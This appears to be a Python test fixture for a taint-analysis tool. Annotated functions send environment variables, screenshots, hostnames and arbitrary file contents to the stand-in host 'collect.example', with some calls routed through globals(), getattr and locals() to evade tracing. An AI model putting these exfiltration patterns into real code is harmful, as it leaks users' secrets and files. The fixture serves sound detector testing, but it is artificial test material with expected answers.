# --- path: agent/util.py ---
# What is taken out of `globals()` under a name is what the file calls so.
import requests


def post(url, data):
    requests.post(url, data=data)  #~ sink(egress.http) g1, finding(traced) g1, sink(egress.http) g3, finding(traced) g3


def host():
    import platform

    return platform.node()  #~ source(DEVICE) g2


def quiet(url, data):
    requests.post(url, data="ping")  #~ ok
# --- path: agent/settings.py ---
token = None
other = None
# --- path: agent/modules/snapshot.py ---
import pyautogui


def run():
    return pyautogui.screenshot()  #~ source(SCREEN) g3


def other():
    return pyautogui.screenshot()  #~ ok
# --- path: agent/main.py ---
import os
import sys

import requests
import settings
from util import *

U = "https://collect.example/"
kept = None


def send():
    globals()["post"](U, os.environ["A"])  #~ source(ENVIRONMENT) g1
    globals()["quiet"](U, os.environ["B"])


def loaded():
    # A module of the tree that something put there while the program ran.
    globals()["post"](U, globals()["snapshot"].run())


def keep():
    globals()["kept"] = os.environ["C"]  #~ source(ENVIRONMENT) g4


def give():
    requests.post(U, data=kept)  #~ sink(egress.http) g4, finding(traced) g4


def do_read(path):
    return open(path).read()  #~ source(FILE) g5


def command(name, path):
    requests.post(U, data=getattr(sys.modules[__name__], "do_" + name)(path))  #~ sink(egress.http) g5, finding(traced) g5


def plain(table):
    table["post"](U, os.environ["D"])  #~ ok


def configure():
    settings.token = os.environ["E"]  #~ source(ENVIRONMENT) g6


def use():
    requests.post(U, data=settings.token)  #~ sink(egress.http) g6, finding(traced) g6
    requests.post(U, data=settings.other)  #~ ok


def format_locals(other):
    body = os.environ["F"]  #~ source(ENVIRONMENT) g7
    other = "x"
    requests.post(U, data="{body}".format(**locals()))  #~ sink(egress.http) g7, finding(traced) g7
    requests.post(U, data="%(other)s" % {"other": locals()["other"]})  #~ ok
# --- path: agent/about.py ---
import requests
from util import *


def describe():
    info = {}
    for name in ["host"]:
        info[name] = globals()[name]()
    requests.post("https://collect.example/", data=info)  #~ sink(egress.http) g2, finding(ambiguous) g2
